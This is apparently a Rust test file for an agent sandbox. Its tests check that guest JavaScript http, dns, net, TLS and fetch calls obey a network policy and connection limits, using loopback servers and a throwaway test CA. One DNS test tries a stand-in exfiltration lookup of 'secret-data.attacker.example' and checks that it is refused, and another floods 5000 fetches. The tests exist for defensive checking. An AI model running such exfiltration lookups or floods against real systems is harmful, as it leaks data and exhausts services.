//! Guest network clients beyond `fetch`: `http`, `dns`, `net` sockets, TLS, and the limits a
//! flood of them hits, against the loopback server of `net.rs`.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::thread;

use agentos_sdk::NetLimits;

use crate::net::{Server, beside_a_calm_fetch, guest, run_ok};
use crate::support::{node, run, sidecar, stderr, stdout};

#[tokio::test]
async fn http_get_streams_a_response() {
    let server = Server::start();
    let code = format!(
        "const http = require('http');
         http.get('{}', (res) => {{
           let n = 0, chunks = 0;
           res.on('data', (c) => {{ n += c.length; chunks++; }});
           res.on('end', () => console.log(res.statusCode, res.statusMessage,
             res.headers['content-length'], n, chunks > 1, Buffer.isBuffer(res.rawHeaders ? Buffer.alloc(0) : 0)));
         }});",
        server.url("/big/2000000")
    );
    let out = run_ok(node(&code).allow_net(server.rule())).await;
    assert_eq!(stdout(&out), "200 OK 2000000 2000000 true true\n");
}

#[tokio::test]
async fn http_request_streams_a_chunked_body() {
    let server = Server::start();
    let code = format!(
        "const http = require('http');
         const req = http.request({{ host: '127.0.0.1', port: {}, path: '/echo', method: 'POST',
           headers: {{ 'content-type': 'text/plain' }} }}, (res) => {{
           let text = '';
           res.setEncoding('utf8');
           res.on('data', (c) => {{ text += c; }});
           res.on('end', () => console.log(res.statusCode, text));
         }});
         req.write('one,');
         setTimeout(() => {{ req.write('two,'); req.end('three'); }}, 20);",
        server.port
    );
    let out = run_ok(node(&code).allow_net(server.rule())).await;
    assert_eq!(stdout(&out), "200 one,two,three\n");
    let heads = server.heads.lock().join("");
    assert!(heads.contains("transfer-encoding: chunked"), "{heads}");
}

#[tokio::test]
async fn http_end_with_a_body_sends_its_length() {
    let server = Server::start();
    let code = format!(
        "const http = require('http');
         const req = http.request('{}', {{ method: 'PUT' }}, (res) => {{
           res.setEncoding('utf8'); let t = ''; res.on('data', (c) => t += c);
           res.on('end', () => console.log(t));
         }});
         req.end('whole body');",
        server.url("/echo")
    );
    let out = run_ok(node(&code).allow_net(server.rule())).await;
    assert_eq!(stdout(&out), "whole body\n");
    let heads = server.heads.lock().join("");
    assert!(heads.contains("content-length: 10"), "{heads}");
}

#[tokio::test]
async fn a_denied_http_request_emits_a_typed_error() {
    let server = Server::start();
    let code = format!(
        "const http = require('http');
         http.get('{}', () => console.log('response?')).on('error', (e) =>
           console.log(e.code, e.message.includes('denied by network policy')));",
        server.url("/hello")
    );
    let out = run_ok(node(&code)).await;
    assert_eq!(stdout(&out), "ECONNREFUSED true\n");
    assert_eq!(server.accepted.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn dns_lookup_goes_through_the_policy() {
    let code = "const dns = require('dns');
        dns.lookup('localhost', { family: 4 }, (err, address, family) => {
          console.log(err ? err.code : address, family);
          dns.promises.lookup('secret-data.attacker.example').then(
            (a) => console.log('resolved?', a), (e) => console.log(e.code));
        });";
    let out = run_ok(node(code).allow_net("localhost")).await;
    assert_eq!(stdout(&out), "127.0.0.1 4\nECONNREFUSED\n");
    // Without a policy no name reaches a resolver (`localhost` never does: it is loopback).
    let out = run_ok(node(&code.replace("'localhost'", "'example.com'"))).await;
    assert_eq!(stdout(&out), "ECONNREFUSED undefined\nECONNREFUSED\n");
}

#[tokio::test]
async fn a_net_socket_talks_to_an_allowed_server() {
    let server = Server::start();
    let code = format!(
        "const net = require('net');
         const s = net.connect({}, '127.0.0.1', () => {{
           console.log('connected', s.remotePort === {});
           s.write('GET /hello HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n');
         }});
         let text = ''; s.setEncoding('utf8');
         s.on('data', (d) => {{ text += d; }});
         s.on('end', () => console.log(text.split('\\r\\n')[0], text.endsWith('hello')));
         s.on('close', () => console.log('closed', s.bytesRead > 0, s.bytesWritten));",
        server.port, server.port
    );
    let out = run_ok(node(&code).allow_net(server.rule())).await;
    assert_eq!(
        stdout(&out),
        "connected true\nHTTP/1.1 200 OK true\nclosed true 32\n"
    );
}

#[tokio::test]
async fn a_socket_under_an_http_only_rule_is_denied() {
    let server = Server::start();
    let code = format!(
        "require('net').connect({}, '127.0.0.1').on('error', (e) => console.log(e.code, e.message));",
        server.port
    );
    let rule = format!("http://127.0.0.1:{}", server.port);
    let out = run_ok(node(&code).allow_net(rule.clone())).await;
    assert!(
        stdout(&out).starts_with("ECONNREFUSED connect ECONNREFUSED: tcp 127.0.0.1"),
        "{}",
        stdout(&out)
    );
    assert_eq!(server.accepted.load(Ordering::SeqCst), 0);
}

/// The same script under the host's Node 20 prints exactly this (checked when written).
const WEB_FETCH_CLASSES: &str = r#"(async () => {
const h = new Headers({ B: '1', a: '2' }); h.append('a', '3'); h.append('set-cookie', 'x=1'); h.append('set-cookie', 'y=2');
console.log(JSON.stringify([...h]), h.get('A'), h.getSetCookie().length, h.has('b'));
const r = new Response('{"k":2}', { status: 201, headers: { 'x-y': 'z' } });
console.log(r.status, r.ok, r.headers.get('content-type'), (await r.clone().json()).k, await r.text(), r.bodyUsed, r.type);
const j = Response.json({ a: 1 }); console.log(j.headers.get('content-type'), await j.text());
const q = new Request('http://e.x/p', { method: 'post', body: 'b' }); console.log(q.method, q.url, await q.text(), q.redirect);
try { new Headers({ 'bad name': 'x' }); } catch (e) { console.log(e.constructor.name); }
try { new Request('/relative'); } catch (e) { console.log(e.constructor.name); }
try { await r.text(); } catch (e) { console.log(e.constructor.name); }
console.log(Object.prototype.toString.call(h), typeof fetch, Response.error().type, Response.redirect('http://a.b/', 301).headers.get('location'));
const big = await new Response(new Uint8Array(3)).arrayBuffer(); console.log(big.byteLength);
})();"#;

#[tokio::test]
async fn headers_request_and_response_behave_like_nodes() {
    let out = run_ok(node(WEB_FETCH_CLASSES)).await;
    assert_eq!(
        stdout(&out),
        "[[\"a\",\"2, 3\"],[\"b\",\"1\"],[\"set-cookie\",\"x=1\"],[\"set-cookie\",\"y=2\"]] 2, 3 2 true\n\
         201 true text/plain;charset=UTF-8 2 {\"k\":2} true default\n\
         application/json {\"a\":1}\n\
         POST http://e.x/p b follow\n\
         TypeError\nTypeError\nTypeError\n\
         [object Headers] function error http://a.b/\n\
         3\n"
    );
}

#[tokio::test]
async fn thousands_of_fetches_end_in_typed_limits_beside_a_calm_exec() {
    let server = Server::start();
    let sc = sidecar().await;
    let code = format!(
        "const all = []; for (let i = 0; i < 5000; i++) all.push(fetch('{}'));
         const done = await Promise.allSettled(all);
         const codes = new Set(done.filter((d) => d.status === 'rejected')
           .map((d) => d.reason.cause && d.reason.cause.code));
         console.log([...codes].join());",
        server.url("/forever")
    );
    let limits = NetLimits {
        max_connections: 16,
        ..NetLimits::default()
    };
    let hostile = guest(&code)
        .allow_net(server.rule())
        .net_limits(limits)
        .timeout_ms(60_000);
    let out = beside_a_calm_fetch(&sc, &server, hostile).await;
    // The first 16 hold their connections (bodies never read, exec ends); the rest hit a limit.
    assert_eq!(stdout(&out), "ERR_NET_LIMIT\n", "{}", stderr(&out));
}

#[tokio::test]
async fn a_response_with_huge_headers_is_a_typed_error() {
    let server = Server::start();
    let code = format!(
        "await fetch('{}'); console.log('accepted?');",
        server.url("/huge-headers")
    );
    let out = run_ok(guest(&code).allow_net(server.rule())).await;
    let printed = stdout(&out);
    assert!(printed.starts_with("ERR fetch failed HPE_"), "{printed}");
}

/// A TLS server on 127.0.0.1 with a certificate for `localhost` signed by a fresh test CA; its
/// port and the CA's PEM file.
pub(crate) fn tls_server() -> (u16, std::path::PathBuf) {
    use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair};
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).expect("ca params");
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(DnType::CommonName, "agentos test root");
    let ca =
        CertifiedIssuer::self_signed(ca_params, KeyPair::generate().expect("key")).expect("ca");
    let leaf_key = KeyPair::generate().expect("leaf key");
    let leaf = CertificateParams::new(vec!["localhost".to_owned()])
        .expect("leaf params")
        .signed_by(&leaf_key, &ca)
        .expect("leaf");
    let pem = crate::support::scratch("tls-root").join("root.pem");
    std::fs::write(&pem, ca.pem()).expect("write root");
    let key = rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into());
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_no_client_auth()
        .with_single_cert(vec![leaf.der().clone()], key)
        .expect("server config");
    let config = Arc::new(config);
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    thread::spawn(move || {
        for tcp in listener.incoming().flatten() {
            let config = config.clone();
            thread::spawn(move || {
                let Ok(conn) = rustls::ServerConnection::new(config) else {
                    return;
                };
                let mut tls = rustls::StreamOwned::new(conn, tcp);
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") {
                    if tls.read(&mut byte).unwrap_or(0) == 0 {
                        return;
                    }
                    head.push(byte[0]);
                }
                let reply =
                    b"HTTP/1.1 200 OK\r\ncontent-length: 6\r\nconnection: close\r\n\r\nsecure";
                let _ = tls.write_all(reply);
                tls.conn.send_close_notify();
                let _ = tls.flush();
            });
        }
    });
    (port, pem)
}

#[tokio::test]
async fn https_tls_and_fetch_verify_the_server_against_the_trusted_roots() {
    let (port, root) = tls_server();
    let mode = std::env::var("AGENTOS_TEST_MODE").unwrap_or_else(|_| "auto".into());
    let sc =
        crate::support::spawn(crate::support::builder(&mode).env("AGENTOS_NET_EXTRA_ROOTS", &root))
            .await;
    let code = format!(
        "const url = 'https://localhost:{port}/';
         const res = await new Promise((ok, fail) => require('https').get(url, ok).on('error', fail));
         let text = ''; res.setEncoding('utf8'); for await (const c of res) text += c;
         console.log('https', res.statusCode, text);
         console.log('fetch', await (await fetch(url)).text());
         const s = require('tls').connect({{ port: {port}, host: 'localhost' }}, () => {{
           console.log('tls', s.encrypted, s.authorized);
           s.write('GET / HTTP/1.1\\r\\nhost: localhost\\r\\n\\r\\n');
         }});
         let raw = ''; s.setEncoding('utf8'); s.on('data', (d) => {{ raw += d; }});
         await new Promise((ok) => s.on('close', ok));
         console.log('raw', raw.endsWith('secure'));"
    );
    let out = run(&sc, guest(&code).allow_net(format!("localhost:{port}"))).await;
    assert_eq!(
        stdout(&out),
        "https 200 secure\nfetch secure\ntls true true\nraw true\n",
        "{}",
        stderr(&out)
    );
    // A sidecar that does not trust the test root refuses the same server.
    let sc = sidecar().await;
    let code = format!("await fetch('https://localhost:{port}/');");
    let out = run(&sc, guest(&code).allow_net(format!("localhost:{port}"))).await;
    assert!(
        stdout(&out).starts_with("ERR fetch failed ERR_TLS_HANDSHAKE"),
        "{}",
        stdout(&out)
    );
}
